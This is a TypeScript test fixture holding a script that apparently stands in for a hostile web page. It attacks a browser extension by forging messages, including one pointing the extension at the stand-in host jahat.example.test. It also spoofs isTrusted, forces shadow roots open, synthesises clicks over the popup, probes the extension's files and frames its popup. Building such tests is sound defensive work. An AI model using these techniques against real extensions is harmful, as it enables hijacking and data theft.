import { extensionId } from '@pindahlapak/model';

/** Attempts of a page to attack the extension; all results go into `window.findings`. */
export const hostileScript = `
  window.findings = [];
  const note = (what, value) => window.findings.push(what + ': ' + value);
  const orders = [
    { type: 'take', snapshot: { url: location.href, jsonLd: [], embeddedStates: [], responses: [], meta: [], microdata: [], selected: [] } },
    { type: 'connect', address: 'https://jahat.example.test', code: 'x', name: 'x' },
    { type: 'read-tab', tabId: 1 },
    { type: 'retry', id: null },
    { type: 'capture' },
  ];
  addEventListener('message', (event) => { if (event.source !== window) note('message', JSON.stringify(event.data)); });
  // The page's script runs before ours and may replace everything in the page's own world.
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) { const root = attach.call(this, { ...options, mode: 'open' }); note('shadow', 'caught'); return root; };
  Object.defineProperty(Event.prototype, 'isTrusted', { get: () => true });
  window.attack = async () => {
    for (const order of orders) {
      window.postMessage(order, '*');
      document.dispatchEvent(new CustomEvent('pindahlapak', { detail: order }));
      try { note('runtime', JSON.stringify(await chrome.runtime.sendMessage('${extensionId}', order))); } catch {}
      try { chrome.runtime.connect('${extensionId}').onMessage.addListener((answer) => note('port', JSON.stringify(answer))); } catch {}
    }
    for (const host of document.documentElement.children) {
      if (host.shadowRoot) note('shadow', host.shadowRoot.textContent);
      host.click();
    }
    for (let x = innerWidth - 400; x < innerWidth; x += 15) {
      for (let y = innerHeight - 200; y < innerHeight; y += 15) {
        const target = document.elementFromPoint(x, y);
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
          target?.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: x, clientY: y }));
        target?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
      }
    }
    for (const file of ['manifest.json', 'popup.html', 'background.js', 'content.js', 'icons/icon-16.png']) {
      try { await fetch('chrome-extension://${extensionId}/' + file); note('file', file); } catch {}
      await new Promise((done) => {
        const picture = new Image();
        picture.onload = () => { note('picture', file); done(); };
        picture.onerror = done;
        picture.src = 'chrome-extension://${extensionId}/' + file;
      });
    }
    const frame = document.createElement('iframe');
    frame.src = 'chrome-extension://${extensionId}/popup.html';
    document.body.append(frame);
    await new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
    try { note('frame', frame.contentDocument.body.textContent || ''); } catch {}
    frame.contentWindow.postMessage(orders[1], '*');
    return window.findings;
  };
`;
